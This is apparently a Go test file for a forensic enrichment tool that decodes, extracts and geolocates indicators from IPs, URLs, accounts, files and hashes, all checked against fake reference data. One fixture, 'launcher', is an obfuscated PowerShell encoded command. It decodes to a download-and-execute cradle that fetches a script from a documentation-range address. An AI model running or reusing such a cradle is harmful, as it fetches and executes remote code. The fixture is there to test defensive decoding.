package pivot

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"forensic/datasets/reference"
)

// fakeAddresses knows one block.
type fakeAddresses struct{}

var block = netip.MustParsePrefix("198.51.100.0/24")

func (fakeAddresses) Locate(a netip.Addr) (reference.Place, bool) {
	lat, lon := 48.1, 11.5
	p := reference.Place{CountryCode: "DE", Country: "Germany", Region: "Bavaria", City: "Munich", Latitude: &lat, Longitude: &lon, Prefix: block, Source: "places"}
	return p, block.Contains(a)
}

func (fakeAddresses) Network(a netip.Addr) (reference.Network, bool) {
	return reference.Network{ASN: 64500, Organisation: "Example Net", Traits: []string{"hosting", "vpn"}, Prefix: block, Source: "networks"}, block.Contains(a)
}

func (fakeAddresses) Registration(a netip.Addr) (reference.Registration, bool) {
	r := reference.Registration{ASN: 64500, CIDR: block, CountryCode: "DE", Registry: "ripencc", Date: "2020-01-02", Description: "EXAMPLE", NetName: "EX", Emails: []string{"a@example.org"}, Source: "whois"}
	return r, block.Contains(a)
}

type fakeAssets struct{}

func (fakeAssets) Asset(name string) (reference.Asset, bool) {
	a := reference.Asset{Name: "WS1", Kind: "host", Owner: "bob", Criticality: "high", Extra: map[string]string{"room": "7", "floor": "2"}, Source: "assets.csv", Line: 3}
	return a, name == "ws1"
}

// one asks a verb of the package about values, without a case.
func one(t *testing.T, name string, params map[string]any, values ...string) []string {
	t.Helper()
	n, v, err := Find(nil, name)
	if err != nil {
		t.Fatal(err)
	}
	e := &Env{Reference: &reference.Set{Addresses: fakeAddresses{}, Assets: fakeAssets{}, Sources: []reference.Source{{Kind: "geoip"}}}}
	r, err := Run(t.Context(), e, Values(n, values), Step{Noun: n, Verb: v, Params: params})
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	return strings.Split(tableText(t, r), "\n")
}

func TestVerbsWithoutCase(t *testing.T) {
	for _, test := range []struct {
		verb   string
		values []string
		want   []string
	}{
		{"ip.geo", []string{"198.51.100.7", "10.0.0.1", "9.9.9.9"}, []string{
			"IpAddress|CountryCode|CountryOrRegionName|State|City|Longitude|Latitude|Asn|Network|Database|Note",
			"198.51.100.7|DE|Germany|Bavaria|Munich|11.5|48.1|AS64500 Example Net|198.51.100.0/24|places|·",
			"10.0.0.1|·|·|·|·|·|·|·|·|·|unknown: a private address has no location",
			"9.9.9.9|·|·|·|·|·|·|·|·|·|unknown: no location in the databases",
		}},
		{"ip.asn", []string{"198.51.100.7", "9.9.9.9"}, []string{
			"ip|asn|organisation|isp|domain|connection|traits|network|database|note",
			"198.51.100.7|64500|Example Net|·|·|·|hosting, vpn|198.51.100.0/24|networks|·",
			"9.9.9.9|·|·|·|·|·|·|·|·|unknown: no network in the databases",
		}},
		{"ip.whois", []string{"198.51.100.7", "::1"}, []string{
			"query|asn|asn_cidr|asn_country_code|asn_registry|asn_date|asn_description|nets|database|note",
			`198.51.100.7|64500|198.51.100.0/24|DE|ripencc|2020-01-02|EXAMPLE|[{"cidr":"198.51.100.0/24","name":"EX","startAddress":"198.51.100.0","endAddress":"198.51.100.255","emails":["a@example.org"]}]|whois|·`,
			"::1|·|·|·|·|·|·|·|·|unknown: a loopback address has no registration",
		}},
		{"host.asset", []string{"WS1.corp.example", "ws2"}, []string{
			"host|name|kind|owner|role|criticality|extra|list|line",
			`ws1.corp.example|WS1|host|bob|·|high|{"floor":"2","room":"7"}|assets.csv|3`,
		}},
		{"ip.type", []string{"10.0.0.1", "2001:4860:4860::8888"}, []string{
			"ip|kind|external|internal|version|ip_type", "10.0.0.1|private|false|true|4|Private", "2001:4860:4860::8888|public|true|false|6|Public",
		}},
		{"ip.parts", []string{"198.51.100.7", "2001:db8::1"}, []string{
			"ip|version|block_small|block_large|reverse_name|number",
			"198.51.100.7|4|198.51.100.0/24|198.51.0.0/16|7.100.51.198.in-addr.arpa|3325256711",
			"2001:db8::1|6|2001:db8::/64|2001:db8::/48|1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa|42540766411282592856903984951653826561",
		}},
		{"url.parts", []string{"hxxps://user:pw@Evil[.]example:8443/a%20b/c?q=1&r#top", "http://[2001:db8::1]/"}, []string{
			"url|scheme|auth|host|port|path|query|fragment|host_type",
			"https://evil.example:8443/a%20b/c?q=1&r|https|user:pw|evil.example|8443|/a%20b/c|q=1&r|top|dns",
			"http://[2001:db8::1]/|http|·|2001:db8::1|·|/|·|·|ip",
		}},
		{"account.parts", []string{`CORP\Bob`, "bob@corp.example", "S-1-5-18", "bob"}, []string{
			"account|name|domain|sid|well_known|form", `corp\bob|bob|corp|·|·|down-level`, "bob@corp.example|bob|corp.example|·|·|upn",
			"S-1-5-18|·|·|S-1-5-18|SYSTEM|sid", "bob|bob|·|·|·|name",
		}},
		{"host.parts", []string{"WS1.corp.example"}, []string{"host|short_name|domain", "ws1.corp.example|ws1|corp.example"}},
		{"file.parts", []string{`C:\Users\A.tar.GZ`, "/etc/.profile", "x"}, []string{
			"file|folder|name|stem|extension|system", `c:\users\a.tar.gz|c:\users|a.tar.gz|a.tar|gz|windows`, "/etc/.profile|/etc|.profile|.profile|·|unix", "x|·|x|x|·|·",
		}},
		{"hash.type", []string{strings.Repeat("a", 64), "d41d8cd98f00b204e9800998ecf8427e", strings.Repeat("0", 40)}, []string{
			"hash|algorithm|bits|note", strings.Repeat("a", 64) + "|sha256|256|·",
			"d41d8cd98f00b204e9800998ecf8427e|md5|128|hash of no bytes: every empty file has it",
			strings.Repeat("0", 40) + "|sha1|160|zeros: no hash was computed",
		}},
		{"text.iocs", []string{"see hxxp://evil[.]example/a and 192.0.2.7, 192.0.2.7"}, []string{
			"text|type|value|part_of|offset|chain",
			"see hxxp://evil[.]example/a and 192.0.2.7, 192.0.2.7|url|http://evil.example/a|·|4|·",
			"see hxxp://evil[.]example/a and 192.0.2.7, 192.0.2.7|dns|evil.example|url|11|·",
			"see hxxp://evil[.]example/a and 192.0.2.7, 192.0.2.7|ipv4|192.0.2.7|·|32|·",
		}},
		{"text.decode", []string{"nothing here"}, []string{
			"text|string|layer|inside|depth|innermost|chain|encoding|kind|form|offset|size|decoded|md5|sha1|sha256|limit",
		}},
	} {
		if d := cmp.Diff(test.want, one(t, test.verb, nil, test.values...)); d != "" {
			t.Errorf("%s: %s", test.verb, d)
		}
	}
}

// The launcher of a download, base64 of UTF-16, twice.
const launcher = "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhAC4AcABzADEAIgApAA=="

// From a command to a place: decode, extract, locate.
func TestChain(t *testing.T) {
	e := &Env{Reference: &reference.Set{Addresses: fakeAddresses{}, Sources: []reference.Source{{Kind: "geoip"}}}}
	n, _ := NounOf("text")
	var table Table = Values(n, []string{launcher})
	for _, s := range []struct {
		verb string
		join Join
		keep []string
	}{
		{"text.decode", NoJoin, []string{"decoded"}}, {"text.iocs", NoJoin, []string{"type", "value"}}, {"ip.geo", InnerJoin, []string{"value", "City"}},
	} {
		noun, verb, err := Find(nil, s.verb)
		if err != nil {
			t.Fatal(err)
		}
		r, err := Run(t.Context(), e, table, Step{Noun: noun, Verb: verb, Join: s.join})
		if err != nil {
			t.Fatal(err)
		}
		if table, err = Choose(r, Choice{Keep: s.keep}); err != nil {
			t.Fatal(err)
		}
	}
	defer table.Close()
	if got := tableText(t, table); got != "value|City\n198.51.100.7|Munich" {
		t.Error(got)
	}
	deep := one(t, "text.iocs", map[string]any{"decode": true}, launcher)
	if !strings.Contains(strings.Join(deep, "\n"), "|ipv4|198.51.100.7|url|") {
		t.Errorf("%q", deep)
	}
}
